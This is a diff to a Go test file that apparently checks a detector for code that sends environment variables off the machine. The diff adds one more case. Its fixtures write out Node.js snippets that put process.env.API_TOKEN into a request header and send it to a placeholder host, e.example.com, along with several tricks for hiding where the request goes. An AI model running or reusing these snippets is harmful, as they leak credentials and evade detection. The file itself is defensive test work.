@@ -67,7 +67,7 @@ func TestVariablesThatLeaveThisMachine(t *testing.T) {
 		`; o.headers.A=process.env.API_TOKEN; require('http').request(o)"` + "\n"
 	var lines strings.Builder
 	for _, change := range []string{
-		"o.host='e.example.com'", "o.socketPath='/tmp/e.sock'", "o.agent=new (require('proxy-agent'))('http://e.example.com')",
+		"o.host='e.example.com'", "o.createConnection=c", "o.socketPath='/tmp/e.sock'", "o.agent=new (require('proxy-agent'))('http://e.example.com')",
 		"o.lookup=(h,p,c)=>c(null,'192.0.2.1',4)", "with(o){hostname='e.example.com'}",
 		"const a=[o]; a[0].hostname='e.example.com'", "const a={o}; a.o.hostname='e.example.com'",
 		"({hostname:o.hostname}={hostname:'e.example.com'})", "[o.hostname]=['e.example.com']",
